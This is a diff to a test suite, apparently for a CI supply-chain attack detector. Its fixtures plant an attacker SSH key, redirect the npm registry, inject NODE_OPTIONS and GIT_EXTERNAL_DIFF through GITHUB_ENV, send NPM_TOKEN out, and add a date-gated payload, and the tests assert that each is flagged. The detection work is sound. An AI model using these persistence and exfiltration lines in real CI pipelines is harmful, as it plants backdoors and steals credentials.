@@ -284,6 +284,7 @@ git config --global core.hooksPath "$HOME/.hooks"
 echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker' >> ~/.ssh/authorized_keys
 echo 'registry=https://npm.persist.test/' >> ~/.npmrc
 echo 'NODE_OPTIONS=--require /home/runner/.x.js' >> "$GITHUB_ENV"
+echo 'GIT_EXTERNAL_DIFF=/tmp/x' >> "$GITHUB_ENV"
 echo "$HOME/.implant/bin" >> "$GITHUB_PATH"
 echo planted
 """
@@ -300,7 +301,9 @@ mkdir -p ~/.config/pip && printf '[global]\nindex-url = https://pypi.org/simple\
   > ~/.config/pip/pip.conf
 echo "VERSION=0.1" >> "$GITHUB_ENV"
 echo "coverage=97" >> "$GITHUB_OUTPUT"
+echo "result=ok" >> "$GITHUB_OUTPUT"
 echo '### 12 passed' >> "$GITHUB_STEP_SUMMARY"
+printf '| suite | passed |\n|---|---|\n| calc | 12 |\n' >> "$GITHUB_STEP_SUMMARY"
 echo ok
 """
 
@@ -467,6 +470,19 @@ req.on("error", () => {});
 req.end(process.env.NPM_TOKEN);
 """
 
+# --------------------------------------------------------------------------- issue 33: time
+
+# A payload that waits for a date: nothing happens today, so nothing else can be seen.
+DATE_GATED = (
+    CALC
+    + """
+import time
+if time.time() > 1780000000:  # 2026-05-28
+    import threading
+    threading.Thread(target=lambda: None, daemon=True).start()
+"""
+)
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-credentials": Case(scripted(), {"ci/test.sh": python(RUNNER_THEFT)}),
@@ -513,6 +529,7 @@ CASES: dict[str, Case] = {
     "base-downloads": Case(scripted(install=DOWNLOADS), {"calc.py": CALC + "# v2\n"}),
     "base-noise": Case(scripted(install=DOWNLOADS), {"ci/install.sh": NOISY_THEFT}),
     "fails-at-base-too": Case(scripted(test=FAILING), {"calc.py": CALC + "# v2\n"}),
+    "date-gated": Case(scripted(), {"calc.py": DATE_GATED}),
     # The head adds a wheel from a host of its own to the test group: build files are read
     # at head, so it is installed, and that is what the install is judged on.
     "group-url": Case(
@@ -751,6 +768,8 @@ def test_every_place_that_runs_later_is_its_own_finding(reviews: Reviews) -> Non
     workflow = [f for f in review.verdict["findings"] if f["rule"] == "workflow-command-write"]
     titles = " ".join(f["title"] for f in workflow)
     assert "NODE_OPTIONS" in titles, workflow
+    # A program no deny-list names: the allow-list of data-only names catches it.
+    assert "$GITHUB_ENV sets GIT_EXTERNAL_DIFF for later steps" in titles, workflow
     assert "/home/runner/.implant/bin" in titles, workflow
     assert_whole(review)
 
@@ -976,3 +995,17 @@ def test_an_npm_postinstall_theft_names_the_script_that_ran_it(reviews: Reviews)
         assert item["cmdline"] == "node x.js", item
         assert item["origin"] == "the npm postinstall script of left-pad-ng", item
         assert item["route"] == "direct"  # node ignored the proxy: caught all the same
+
+
+def test_a_comparison_of_the_clock_with_a_fixed_date_is_a_warning(reviews: Reviews) -> None:
+    review = reviews.get("date-gated")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    (hit,) = findings(review, "date-gate")
+    assert hit["severity"] == "warn", hit
+    assert hit["title"] == (
+        "waits for a date? calc.py:5 compares the clock with a fixed date: "
+        "`if time.time() > 1780000000:  # 2026-05-28`"
+    ), hit
+    (gate,) = [o for o in review.report("probes")["observations"] if o["kind"] == "date_gate"]
+    assert (gate["path"], gate["line"]) == ("calc.py", 5)
